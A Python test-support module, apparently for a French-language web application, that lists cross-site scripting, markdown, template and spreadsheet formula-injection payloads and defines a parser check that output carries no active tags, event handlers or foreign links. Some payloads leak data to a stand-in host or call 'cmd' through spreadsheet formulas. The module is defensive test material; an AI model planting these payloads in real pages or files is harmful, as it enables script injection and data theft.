"""What people (or pages that they paste from) may type that must only ever be shown as text."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template><svg onload=alert(1)>",
    "--><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "` onclick=alert(1) `",
    "<img src=http://example.org/leak.png?q=secret>",
    "<image href=http://example.org/x.png>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=//example.org></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//example.org/x.swf>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<style>@import '//example.org/x.css';</style>",
    "<style>body{background:url(http://example.org/x)}</style>",
    "<base href=//example.org/>",
    "<meta http-equiv=refresh content='0;url=//example.org'>",
    "<form action=//example.org><input name=q><button>ok</button></form>",
    "<a href=javascript:alert(1)>lire</a>",
    "<a href='//example.org'>preuves</a>",
    "<video poster=http://example.org/x.png><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<b>gras</b> <i>italique</i>",
    "![x](http://example.org/?q=secret)",
    "![x](javascript:alert(1))",
    "[cliquez](javascript:alert(1))",
    "[cliquez](http://example.org)",
    "<http://example.org>",
    "[x]: http://example.org\n[x]",
    "{{7*7}} ${alert(1)} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<img/src='x'/onerror=alert(1)//",
    '=HYPERLINK("http://example.org","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
ALLOWED_LINKS = ("/bibliotheque", "/perimetre", "/audit", "/parcours", "/export", "/?q=", "/", "#")


class Parsed(HTMLParser):
    """Tags, names of attributes and addresses of an HTML text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "poster", "data")]


ACTIVE = {
    "script",
    "style",
    "img",
    "image",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "link",
    "base",
    "meta",
    "video",
}


def is_only_text(html: str) -> bool:
    """Whether nothing that was typed became markup: no active tag, no handler, no foreign address."""
    parsed = Parsed(html)
    handlers = {name for name in parsed.attributes if name.startswith("on")}
    foreign = [link for link in parsed.links if not link.startswith(ALLOWED_LINKS) or link.startswith("//")]
    return not (ACTIVE & parsed.tags or handlers or foreign or "form" in parsed.tags)
